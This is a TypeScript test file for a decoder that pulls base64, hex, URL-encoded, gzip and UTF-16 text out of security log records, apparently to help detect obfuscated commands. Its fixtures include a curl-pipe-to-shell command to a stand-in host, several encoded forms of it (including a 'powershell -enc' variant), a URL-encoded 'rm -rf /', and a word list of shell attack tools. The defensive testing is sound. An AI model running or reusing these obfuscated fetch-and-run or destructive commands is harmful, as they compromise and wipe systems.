import * as fc from 'fast-check';
import { Buffer } from 'node:buffer';
import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { DERIVE_LIMITS, deriveTexts } from '../../../../../parsers/model/derived/derive-texts.js';
import { stringLeaves } from '../../../../../parsers/model/derived/string-leaves.js';

const base64 = (text: string | Uint8Array) => Buffer.from(text).toString('base64');
const command = 'curl -fsSL http://pool.example.invalid/x.sh | sh';
/** Words of a command line: long enough that no run of them is taken for something encoded. */
const sentence = fc
  .array(fc.constantFrom('curl', 'wget', '-O', 'sh', 'rm', '/tmp', 'chmod', '+x', 'http:', 'nc'), {
    minLength: 8,
    maxLength: 40,
  })
  .map((words) => words.join(' '));

describe('texts derived from a text', () => {
  it.each([
    ['base64', `sh -c "echo ${base64(command)}|base64 -d|sh"`, ['base64'], command],
    ['base64 without padding', `x=${base64(command).replace(/=+$/, '')}`, ['base64'], command],
    ['hex', Buffer.from(command).toString('hex'), ['hex'], command],
    ['escaped hex', String.raw`printf \x63\x75\x72\x6c`, ['hex'], 'curl'],
    [
      'URL-encoding',
      '/exec?command=sh&command=-c&x=rm%20-rf%20%2F',
      ['URL-encoding'],
      '/exec?command=sh&command=-c&x=rm -rf /',
    ],
    ['gzip in base64', base64(gzipSync(command)), ['base64', 'gzip'], command],
    ['UTF-16 in base64', `powershell -enc ${base64(Buffer.from(command, 'utf16le'))}`, ['base64', 'UTF-16'], command],
  ])('reads %s', (_name, text, steps, expected) => {
    expect(deriveTexts(text).pieces).toContainEqual(expect.objectContaining({ steps, text: expected, isCut: false }));
  });

  it('reads what is nested, outermost first', () => {
    const { pieces } = deriveTexts(`q=%20${base64(base64(command))}`);
    expect(pieces.map(({ steps }) => steps.join(' '))).toEqual([
      'URL-encoding',
      'URL-encoding base64',
      'URL-encoding base64 base64',
    ]);
    expect(pieces.at(-1)?.text).toBe(command);
  });

  it.each([
    ['paths', '/usr/local/bin/kube-controller-manager /var/lib/kubelet/pods'],
    ['digests', 'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'],
    ['container ids', '3f2a9b41c7d05e62aa01bb02cc03dd04ee05ff061122334455667788990a0b0c'],
    ['identities', 'system:serviceaccount:kube-system:horizontal-pod-autoscaler'],
    ['uuids', '67b17e69-7c47-41a1-af51-6db660cc4b4d'],
  ])('leaves %s alone', (_name, text) => {
    expect(deriveTexts(text).pieces).toEqual([]);
  });

  it('finds every sentence that was encoded', () => {
    fc.assert(
      fc.property(sentence, fc.constantFrom('base64', 'hex'), (text, writing) => {
        const encoded = Buffer.from(text).toString(writing);
        expect(deriveTexts(`run ${encoded} now`).pieces.map((piece) => piece.text)).toContain(text);
      }),
    );
  });

  it('never throws, and keeps its limits', () => {
    const limits = { depth: 3, pieces: 5, input: 2000, output: 300 };
    const hostile = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 3000 }),
      fc.uint8Array({ maxLength: 2000 }).map((bytes) => base64(bytes)),
      fc
        .uint8Array({ maxLength: 500 })
        .map((bytes) => base64(gzipSync(bytes).map((byte, at) => (at === 20 ? byte ^ 8 : byte)))),
      fc.string({ unit: fc.constantFrom('%', '4', '1', 'é', '\\x', '=', 'A'), maxLength: 3000 }),
    );
    fc.assert(
      fc.property(hostile, (text) => {
        const { pieces } = deriveTexts(text, limits);
        expect(pieces.length).toBeLessThanOrEqual(limits.pieces);
        for (const piece of pieces) {
          expect(piece.text.length).toBeLessThanOrEqual(limits.output);
          expect(piece.steps.length).toBeLessThanOrEqual(limits.depth + 2);
        }
      }),
    );
  });

  it('stops a bomb at its limit and says so', () => {
    const { pieces, isCut } = deriveTexts(base64(gzipSync('A'.repeat(10_000_000))));
    expect(isCut).toBe(true);
    expect(pieces[0]).toMatchObject({ steps: ['base64', 'gzip'], isCut: true });
    expect(pieces[0]?.text).toHaveLength(DERIVE_LIMITS.output);
  });

  it('says where it did not look deeper', () => {
    let text = command;
    for (let level = 0; level < 8; level += 1) text = base64(text);
    const derived = deriveTexts(text);
    expect(derived.pieces).toHaveLength(DERIVE_LIMITS.depth);
    expect(derived.isCut).toBe(true);
  });

  it.each([['é'], ['%'], ['A'], ['0'], ['\\x'], ['%4'], ['='], ['/']])(
    'needs linear time for a long run of %s',
    (unit) => {
      const start = process.cpuUsage();
      deriveTexts(unit.repeat(DERIVE_LIMITS.input));
      expect(process.cpuUsage(start).user).toBeLessThan(3_000_000);
    },
  );
});

/** What real records hold; none of the samples that may be kept holds gzip, UTF-16 or a nested writing. */
describe('texts derived from real samples', () => {
  const file = (path: string): string =>
    readFileSync(new URL(`../../../../../sample-evidence/${path}`, import.meta.url), 'latin1');
  const line = (path: string, offset: number): string => file(path).slice(offset).split('\n', 1)[0] ?? '';
  const leaves = (json: string): string => stringLeaves(JSON.parse(json)).join('\n');

  it('reads the bytes that a process wrote, which Tetragon states in base64', () => {
    const { pieces } = deriveTexts(leaves(file('tetragon/tetragon/00_four_golden_signals__process_kprobe.json')));
    expect(pieces.every(({ steps }) => steps.join(' ') === 'base64')).toBe(true);
    expect(pieces.map(({ text }) => text)).toContainEqual(
      expect.stringMatching(/^daemon:x:2:2:daemon:\/sbin:\/sbin\/nologin\nadm:x:3:4:adm:\/var\/adm:\/sbin\/nologin\n/),
    );
  });

  it('reads a title of a process that auditd states in hex, and nothing else of the record', () => {
    const { pieces, isCut } = deriveTexts(line('auditd/go-libaudit/audit-rhel7.log', 6787));
    expect(pieces.map(({ steps, text }) => [steps, text])).toEqual([[['hex'], './metricbeat -c mb.dev.yml']]);
    expect(isCut).toBe(false);
  });

  it('reads the name of a Google Cloud log', () => {
    const { pieces } = deriveTexts(leaves(line('gcp-audit/panther/cloud-audit-unit-events-a.ndjson', 0)));
    expect(pieces.map(({ steps, text }) => [steps, text])).toEqual([
      [['URL-encoding'], 'projects/test-project/logs/cloudaudit.googleapis.com/activity'],
    ]);
  });
});

it('walks all texts of a value however deep', () => {
  let value: unknown = 'deep';
  for (let level = 0; level < 50_000; level += 1) value = [value];
  expect(stringLeaves({ a: 'x', b: [1, null, { c: 'y' }], value })).toEqual(['x', 'y', 'deep']);
});
